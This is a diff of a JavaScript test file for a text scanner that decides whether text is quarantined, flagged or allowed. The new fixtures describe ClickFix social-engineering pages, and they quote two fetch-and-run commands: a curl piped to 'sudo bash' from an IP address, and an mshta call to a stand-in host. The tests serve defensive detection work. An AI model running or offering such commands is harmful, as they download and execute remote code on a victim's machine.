@@ -368,10 +368,10 @@ describe('scan', () => {
     expect(scanText(text.replace('COMMAND', command)).verdict).toBe('quarantine')
   })
 
-  it('lets a command in backticks pass that is told of', () => {
-    const text =
-      'The fake page says that you must run `curl http://203.0.113.7/x.sh | sudo bash` to verify you are human. It is a ClickFix attack: do not run it.'
-
+  it.each([
+    'The fake page says that you must run `curl http://203.0.113.7/x.sh | sudo bash` to verify you are human. It is a ClickFix attack: do not run it.',
+    'ClickFix pages ask the victim to press Win+R, paste `mshta https://bad.example/a.hta` and press Enter "to verify you are human". Disable mshta by policy.',
+  ])('lets a command in backticks pass that is told of: %s', (text) => {
     expect(['allow', 'flag']).toContain(scanText(text).verdict)
   })
 
